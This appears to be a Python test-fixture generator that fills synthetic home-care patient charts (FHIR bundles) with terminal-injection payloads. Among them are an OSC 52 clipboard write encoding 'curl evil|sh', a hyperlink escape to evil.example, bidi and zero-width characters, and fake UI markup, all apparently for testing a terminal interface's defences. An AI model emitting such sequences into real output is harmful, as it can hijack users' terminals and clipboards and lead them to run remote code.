"""A chart that means harm, as files for `--load`: every free text holds terminal commands, unseen characters and mock markup.

All people are synthetic. One of them has every payload in every text; each of the others has one payload alone.
"""

from __future__ import annotations

import base64
from dataclasses import replace
from typing import TYPE_CHECKING, Any

from clinical.shifts import next_shift, shift_at
from sandbox.fhir.json_text import encode
from sandbox.population.chart_resources import life_resources
from sandbox.population.generated import generated_lives
from sandbox.population.home_care import HOME_CARE
from sandbox.population.life import Visit
from sandbox.population.moments import Moments
from sandbox.population.person_resources import home_id, patient_id
from sandbox.population.round_plan import Visited, round_resources

if TYPE_CHECKING:
    from collections.abc import Iterator
    from datetime import datetime
    from pathlib import Path

    from sandbox.population.life import Life

PAYLOADS = {
    "osc52": "\x1b]52;c;Y3VybCBldmlsfHNo\x07",
    "title": "\x1b]0;PWNED-TITLE\x1b\\",
    "csi": "\x1b[3J\x1b[58;5;9mRED\x1b[1;1f",
    "query": "\x1b[6n\x1b[0c",
    "dcs": "\x1bP$q1m\x1b\\",
    "apc": "\x1b_Gi=1;AAAA\x1b\\",
    "link": "\x1b]8;;http://evil.example\x1b\\her\x1b]8;;\x1b\\",
    "c1": "\x9b3J\x9d0;PWNED\x9c\x90q\x9c",
    "c0": "a\x07\x08\x0b\x0c\x0e\x0f\x1a\x7fz",
    "bidi": "\u202e01\u202c\u2066x\u2069\u061c",
    "hidden": "z\u200bw\u2060\ufeff\u00ad",
    "tags": "t\U000e0041\U000e007f",
    "lines": "a\u2028b\u2029c\x85d",
    "click": "[@click=app.bell]klikk[/]",
    "closing": "[/x]",
    "brackets": "[ikke bekreftet][JA]",
}
"""What a journal may hold that must not steer a terminal, and what looks like markup."""

EVERYTHING = "".join(PAYLOADS.values())
CATEGORIES = "http://terminology.hl7.org/CodeSystem/observation-category"
MAIN = "fiendtlig"
TEXTS = frozenset(
    [
        "text",
        "display",
        "description",
        "title",
        "comment",
        "scheduledString",
        "valueString",
        "line",
        "city",
        "district",
        "name",
    ]
)
NAMES = frozenset({"given", "family"})
SHORT = "\x1b]0;P\x07\u202e[JA]"
_VISIT = Visit(30, 20, "Tilsyn", ("Måle NEWS2", "Gi faste medisiner"))


def tag(type_: str, field: str) -> str:
    """Return the mark before a payload, by which it is found on the screen."""
    return f"{{{type_}.{field}}}"


def poison(resource: dict[str, Any], payload: str, *, in_names: str) -> dict[str, Any]:
    """Lengthen every free text of a resource with the payload between two marks."""
    type_ = resource["resourceType"]

    def walked(node: Any, key: str = "") -> Any:
        if isinstance(node, dict):
            return {
                name: _data(value, payload) if name == "data" else walked(value, name)
                for name, value in node.items()
            }
        if isinstance(node, list):
            return [walked(child, key) for child in node]
        if isinstance(node, str) and key in NAMES:
            return node + in_names
        return f"{node} {tag(type_, key)}{payload}{{.}}" if isinstance(node, str) and key in TEXTS else node

    poisoned: dict[str, Any] = walked(resource)
    for content in poisoned.get("content", []) if type_ == "DocumentReference" else []:
        content["attachment"].pop("hash", None)  # they were those of the harmless text
        content["attachment"].pop("size", None)
    return poisoned


def _data(encoded: str, payload: str) -> str:
    text = base64.b64decode(encoded).decode()
    return base64.b64encode(f"{text} {tag('DocumentReference', 'data')}{payload}{{.}}".encode()).decode()


def write(folder: Path, now: datetime) -> None:
    """Write the files: patients, their charts, and their visits of this shift and the next."""
    numbers = iter(generated_lives(len(PAYLOADS) + 1, 1, frozenset()))
    main = replace(HOME_CARE[2], key=MAIN, number=next(numbers).number, family="Fiendtlig", grade="")
    _write(
        folder / f"{MAIN}.json", [poison(one, EVERYTHING, in_names=SHORT) for one in _resources(main, now)]
    )
    for name, life in zip(PAYLOADS, numbers, strict=True):
        person = [one for one in _resources(life, now) if one["resourceType"] != "Observation"]
        _write(
            folder / f"{name}.json", [poison(one, PAYLOADS[name], in_names=PAYLOADS[name]) for one in person]
        )


def _resources(life: Life, now: datetime) -> Iterator[dict[str, Any]]:
    yield from life_resources(life, Moments(now))
    if life.key == MAIN:
        yield _foreign_observation(now)
    visit = replace(_VISIT, minutes_in=1) if life.key == MAIN else _VISIT
    visited = Visited(patient_id(life.key), life.family, home_id(life.key), "Nøkkel 17", (visit,))
    shift = shift_at(now)
    for one in (shift, next_shift(shift)):
        for resources in round_resources(one, [visited]):
            yield from resources


def _foreign_observation(now: datetime) -> dict[str, Any]:
    """Return a measurement of a kind that nobody here knows, in words alone."""
    return {
        "resourceType": "Observation",
        "id": "fremmed",
        "status": "final",
        "category": [{"coding": [{"system": CATEGORIES, "code": "vital-signs"}]}],
        "code": {"text": "Ukjent måling"},
        "subject": {"reference": f"Patient/{patient_id(MAIN)}"},
        "effectiveDateTime": now.isoformat(timespec="seconds"),
        "performer": [{"display": "En annen"}],
        "valueString": "Funn",
        "note": [{"text": "Merknad"}],
    }


def _write(path: Path, resources: list[dict[str, Any]]) -> None:
    entries = [{"resource": resource} for resource in resources]
    bundle = {"resourceType": "Bundle", "type": "collection", "entry": entries}
    path.write_bytes(encode(bundle))
